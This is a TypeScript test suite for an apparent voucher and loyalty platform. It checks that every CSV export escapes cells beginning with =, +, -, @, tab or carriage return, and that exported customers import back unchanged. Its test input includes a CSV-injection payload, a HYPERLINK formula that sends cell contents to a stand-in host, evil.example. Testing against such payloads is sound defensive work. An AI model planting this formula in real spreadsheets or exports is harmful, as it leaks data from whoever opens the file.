import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { EXPORT_OBJECTS, EXPORTED_OBJECTS, type ExportedObject } from '../../src/domain/exports/objects.ts';
import { startTestApp, type KeyPairOut, type TestApp } from '../helpers/app.ts';

// CSV injection (README "Compatibility notes", Exports): text a spreadsheet would run as a formula (a cell
// beginning with =, +, -, @, a tab or a carriage return) is written with a leading single quote, in every
// export of every object, whether it came in through the server API, the client-side API or a file.
// Numbers the program produced (a points removal of -5) stay numbers. A customer file exported this way
// imports back to the same customers.

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

const FORMULA_START = /^[=+\-@\t\r]/;
const STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** Columns whose cells are numbers the program wrote (never text from a user), and so may be negative. */
const NUMERIC_COLUMNS = new Set(['amount', 'balance', 'points', 'loyalty_points', 'gift_amount', 'order_amount', 'value', 'metadata.count']);

describe('exports neutralise spreadsheet formulas', () => {
  let t: TestApp;
  let planted = 0;
  /** Every planted value, by the exported object that must show it. */
  const expected: Record<ExportedObject, Set<string>> = Object.fromEntries(EXPORTED_OBJECTS.map((o) => [o, new Set<string>()])) as never;

  /** A value a spreadsheet would run as a formula, cycling through every character that starts one. */
  function formula(label: string, ...shownIn: ExportedObject[]): string {
    const start = STARTS[planted++ % STARTS.length] ?? '=';
    const value = `${start}HYPERLINK("http://evil.example/?"&A2,"${label}")`;
    for (const object of shownIn) expected[object].add(value);
    return value;
  }
  /** The same for values with a narrower alphabet (codes, source ids, emails): no quotes, no spaces. */
  function token(label: string, ...shownIn: ExportedObject[]): string {
    const start = STARTS[planted++ % 4] ?? '=';
    const value = `${start}${label}`;
    for (const object of shownIn) expected[object].add(value);
    return value;
  }

  let customer: Json;
  let clientCustomer: Json;
  const metadata = (label: string, ...shownIn: ExportedObject[]) => ({ note: formula(`${label} note`, ...shownIn), tags: ['-a', 'b'], count: -5 });

  before(async () => {
    t = await startTestApp();
    await t.allowClientActions();
    const sdk = t.sdk();
    const ok = async (method: string, path: string, json: unknown): Promise<Json> => {
      const res = await t.request(method, path, { json });
      assert.equal(res.status < 300, true, `${method} ${path}: ${res.text}`);
      return res.body;
    };

    customer = await sdk.customers.create({
      source_id: token('cust-1', 'customer', 'voucher', 'redemption', 'publication'),
      name: formula('name', 'customer', 'redemption'),
      email: token('mail@example.com', 'customer'),
      phone: token('48600100200', 'customer'),
      description: formula('description', 'customer'),
      address: {
        line_1: formula('line 1', 'customer'),
        line_2: formula('line 2', 'customer'),
        city: formula('city', 'customer'),
        state: formula('state', 'customer'),
        country: formula('country', 'customer'),
        postal_code: token('00-001', 'customer'),
      },
      metadata: metadata('customer', 'customer'),
    } as never);
    // A shop visitor's page creates customers with the client-side keys.
    clientCustomer = await t.clientSdk().createCustomer({ source_id: token('visitor', 'customer'), name: formula('visitor', 'customer') } as never);

    const category = formula('category', 'voucher');
    await ok('POST', '/v1/categories', { name: category, hierarchy: 1 });
    const campaign = await ok('POST', '/v1/campaigns', {
      name: formula('campaign', 'voucher', 'publication', 'redemption'),
      campaign_type: 'DISCOUNT_COUPONS',
      vouchers_count: 0,
      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
    });
    const code = token('CODE1', 'voucher', 'publication', 'redemption');
    await ok('POST', `/v1/campaigns/${campaign.id}/vouchers/${encodeURIComponent(code)}`, {
      category,
      additional_info: formula('additional info', 'voucher'),
      metadata: metadata('voucher', 'voucher'),
    });
    await ok('POST', '/v1/publications', {
      campaign: { name: campaign.name },
      customer: { id: customer.id },
      channel: formula('channel', 'publication'),
      metadata: metadata('publication', 'publication'),
    });
    await ok('POST', '/v1/orders', {
      source_id: token('order-1', 'order'),
      amount: 3000,
      status: 'PAID',
      customer: { id: customer.id },
      metadata: metadata('order', 'order'),
    });
    await ok('POST', '/v1/redemptions', {
      redeemables: [{ object: 'voucher', id: code }],
      customer: { id: customer.id },
      order: { amount: 2000 },
      metadata: metadata('redemption', 'redemption'),
    });

    // A discount formula is text the API accepted; one may begin with a sign.
    const amountFormula = '+ORDER_AMOUNT / 10';
    expected.voucher.add(amountFormula);
    await ok('POST', `/v1/vouchers/${encodeURIComponent(token('FORMULA1', 'voucher'))}`, { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100, amount_off_formula: amountFormula } });

    const gift = await ok('POST', `/v1/vouchers/${encodeURIComponent(token('GIFT1', 'voucher'))}`, { type: 'GIFT_VOUCHER', gift: { amount: 1000 } });
    await ok('POST', `/v1/vouchers/${encodeURIComponent(gift.code)}/balance`, {
      amount: 250,
      source_id: token('topup', 'voucher_transactions'),
      reason: formula('top-up', 'voucher_transactions'),
    });
    const program = await ok('POST', '/v1/loyalties', { name: formula('program'), voucher: { type: 'LOYALTY_CARD', loyalty_card: { points: 0 } } });
    const card = await ok('POST', `/v1/loyalties/${program.id}/members`, { customer: { id: clientCustomer.id } });
    await ok('POST', `/v1/loyalties/members/${card.code}/balance`, { points: 10, source_id: token('bonus', 'voucher_transactions'), reason: formula('bonus', 'voucher_transactions') });
    await ok('POST', `/v1/loyalties/members/${card.code}/balance`, { points: -5, reason: formula('removal', 'voucher_transactions') });
  });
  after(async () => t.close());

  async function runJobs(): Promise<void> {
    while (await t.worker.runOnce()) {
      // Until no job is due.
    }
  }

  /** Every column the object offers (and the planted metadata members), exported and parsed with csv-parse. */
  async function exportAll(object: ExportedObject): Promise<{ header: string[]; rows: string[][] }> {
    const spec = EXPORT_OBJECTS[object];
    const fields = spec.allowedFields.includes('metadata') ? [...spec.allowedFields, 'metadata.note', 'metadata.tags', 'metadata.count'] : [...spec.allowedFields];
    const created = await t.request('POST', '/v1/exports', { json: { exported_object: object, parameters: { fields } } });
    assert.equal(created.status, 200, created.text);
    await runJobs();
    const done = await t.request('GET', `/v1/exports/${created.body.id}`);
    assert.equal(done.body.status, 'DONE', done.text);
    const file = await fetch(done.body.result.url);
    assert.equal(file.status, 200);
    const [header, ...rows] = parse(await file.text()) as string[][];
    assert.deepEqual(header, fields);
    return { header: header ?? [], rows };
  }

  for (const object of EXPORTED_OBJECTS) {
    test(`${object}: no cell begins as a formula; planted values are kept behind a single quote`, async () => {
      const { header, rows } = await exportAll(object);
      assert.ok(rows.length > 0, `the ${object} export has rows`);
      const shown = new Set<string>();
      for (const row of rows) {
        for (const [i, cell] of row.entries()) {
          const column = header[i] ?? '';
          if (FORMULA_START.test(cell)) {
            assert.ok(NUMERIC_COLUMNS.has(column) && /^-\d+(\.\d+)?$/.test(cell), `${object} column ${column}: ${JSON.stringify(cell)} would run as a formula`);
          }
          if (cell.startsWith("'")) shown.add(cell.slice(1));
        }
      }
      for (const value of expected[object]) assert.ok(shown.has(value), `${object}: ${JSON.stringify(value)} is exported as '${JSON.stringify(value)}`);
    });
  }

  test('numbers the program produced stay numbers: a removal of 5 points, a metadata number', async () => {
    const transactions = await exportAll('voucher_transactions');
    const amounts = transactions.rows.map((r) => r[transactions.header.indexOf('amount')]);
    assert.ok(amounts.includes('-5'), JSON.stringify(amounts));
    const customers = await exportAll('customer');
    const row = customers.rows.find((r) => r[customers.header.indexOf('id')] === customer.id);
    assert.equal(row?.[customers.header.indexOf('metadata.count')], '-5');
    // A list of user text is text, whatever its first member.
    assert.equal(row?.[customers.header.indexOf('metadata.tags')], "'-a,b");
  });

  test('an exported customer file imports back into another project with the same values', async () => {
    const columns = ['source_id', 'name', 'email', 'phone', 'description', 'address_line_1', 'address_line_2', 'address_city', 'address_state', 'address_country', 'address_postal_code'];
    const created = await t.request('POST', '/v1/exports', { json: { exported_object: 'customer', parameters: { fields: columns } } });
    assert.equal(created.status, 200, created.text);
    await runJobs();
    const done = await t.request('GET', `/v1/exports/${created.body.id}`);
    const file = await (await fetch(done.body.result.url)).text();

    const project = await t.request('POST', '/management/v1/projects', {
      headers: t.managementHeaders(),
      json: { name: 'Round trip', case_sensitive_codes: true, timezone: 'UTC', currency: 'USD' },
    });
    assert.equal(project.status, 200, project.text);
    const keys = project.body.server_side_key as KeyPairOut;
    const form = new FormData();
    form.append('file', new Blob([file], { type: 'text/csv' }), 'customers.csv');
    const upload = await fetch(`${t.url}/v1/customers/importCSV`, { method: 'POST', headers: t.serverHeaders(keys), body: form });
    const accepted = (await upload.json()) as Json;
    assert.equal(upload.status, 202, JSON.stringify(accepted));
    await runJobs();
    const action = await t.request('GET', `/v1/async-actions/${accepted.async_action_id}`, { headers: t.serverHeaders(keys) });
    assert.equal(action.body.status, 'DONE', action.text);
    assert.deepEqual(action.body.result.failed, []);

    for (const original of [customer, clientCustomer]) {
      const copy = await t.request('GET', `/v1/customers/${encodeURIComponent(original.source_id)}`, { headers: t.serverHeaders(keys) });
      assert.equal(copy.status, 200, copy.text);
      const pick = (c: Json) => ({ source_id: c.source_id, name: c.name, email: c.email ?? null, phone: c.phone ?? null, description: c.description ?? null, address: c.address ?? null });
      const before = await t.request('GET', `/v1/customers/${original.id}`);
      assert.deepEqual(pick(copy.body), pick(before.body));
    }
  });
});
